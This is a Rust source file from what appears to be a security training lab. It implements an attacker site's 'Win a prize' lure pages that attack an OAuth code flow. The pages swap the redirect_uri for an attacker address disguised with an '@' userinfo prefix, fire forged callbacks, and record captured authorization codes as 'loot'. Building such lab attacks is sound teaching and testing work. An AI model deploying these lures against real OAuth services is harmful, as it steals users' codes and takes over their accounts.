//! Attacks on the code flow (claim P4): links that make a visitor's browser answer a question of the attacker's, or bring him
//! the answer to it.

use std::sync::Arc;

use axum::extract::State;
use axum::response::{IntoResponse as _, Redirect, Response};
use domain::{Loot, SandboxId};
use leptos::prelude::*;
use reqwest::Url;
use serde::Deserialize;
use serde_json::json;

use super::lure::Lure;
use super::{attacking_policy, script};
use crate::parties::attacker::Attacker;
use crate::parties::attacker::page::document;

const ROOM: &str = "/api/lab/rooms/code-flow";

/// Where the link leads.
#[derive(Deserialize)]
pub(in crate::parties::attacker) struct Bait {
    /// To the client, with this answer of the provider's: a query.
    answer: Option<String>,
    /// To the app's own callback, in the place of an image, so that this page stays.
    image: Option<String>,
    /// To the provider, with this question of the client's: a query, whose `redirect_uri` this site replaces.
    question: Option<String>,
}

/// `GET /campaigns/{campaign}/code-flow?sandbox=…&done=…&answer=…`, or `&image=…`, or `&question=…`: a page that takes its own bait.
pub(in crate::parties::attacker) async fn code_flow(
    State(attacker): State<Arc<Attacker>>,
    Lure { campaign, sandbox, done, asked }: Lure<Bait>,
) -> Response {
    if let Some(image) = asked.image {
        let address = format!("{}/sign-in/idp/callback?{image}&sandbox={sandbox}", attacker.victim);
        return page(&attacker, view! { <img id="bait" src=address alt="The prize" data-done=done/> });
    }
    let room = format!("{}{ROOM}", attacker.victim);
    // The way back is the lab's plumbing: the run goes on where it leads.
    let (address, pairs) = match (&asked.answer, &asked.question) {
        (Some(answer), _) => (format!("{room}/callback"), pairs(answer)),
        (None, question) => {
            let mut pairs = pairs(question.as_deref().unwrap_or_default());
            pairs.retain(|(name, _)| name != "redirect_uri");
            pairs.push(("redirect_uri".to_owned(), here(&attacker, &campaign, &sandbox, &done)));
            (format!("{room}/provider/{sandbox}/authorize"), pairs)
        }
    };
    let way_back = ("return_to".to_owned(), done);
    let address = Url::parse_with_params(&address, pairs.into_iter().chain([way_back]));
    let address = address.map(String::from).unwrap_or_default();
    page(&attacker, view! { <a id="bait" href=address>"Take the prize"</a> })
}

/// A page with a bait, which its script takes.
fn page(attacker: &Attacker, bait: impl IntoView) -> Response {
    let page = document(
        "Win a prize",
        view! {
            <h1>"Win a prize"</h1>
            <p>"What is below is no prize. Your browser takes it by itself."</p>
            <p>{bait}</p>
            <script src="/code_flow.js"></script>
        },
    );
    (attacking_policy(attacker), page).into_response()
}

/// `GET /code_flow.js`: its script.
pub(in crate::parties::attacker) async fn code_flow_script() -> impl axum::response::IntoResponse {
    script(include_str!("code_flow.js"))
}

/// An address of this site that begins with the client's origin. What stands before the `@` is a name and a password.
fn here(attacker: &Attacker, campaign: &str, sandbox: &SandboxId, done: &str) -> String {
    let address = format!("{}@{}/campaigns/{campaign}/code", attacker.victim, attacker.here.authority());
    let fields = [("sandbox", sandbox.as_str()), ("done", done)];
    format!("{address}?{}", serde_urlencoded::to_string(fields).unwrap_or_default())
}

fn pairs(query: &str) -> Vec<(String, String)> {
    serde_urlencoded::from_str(query).unwrap_or_default()
}

/// What a provider sends along.
#[derive(Deserialize)]
pub(in crate::parties::attacker) struct Answer {
    #[serde(default)]
    code: String,
}

/// `GET /campaigns/{campaign}/code?sandbox=…&done=…&code=…`: takes in what a provider has sent here, and leads back.
pub(in crate::parties::attacker) async fn take_code(
    State(attacker): State<Arc<Attacker>>,
    Lure { campaign, done, asked: Answer { code }, .. }: Lure<Answer>,
) -> Response {
    let (at, text) = (attacker.clock.now(), json!({ "code": code }).to_string());
    attacker.campaigns().add_loot(&campaign, Loot { number: 0, at, from: None, user_agent: None, text });
    Redirect::to(&done).into_response()
}
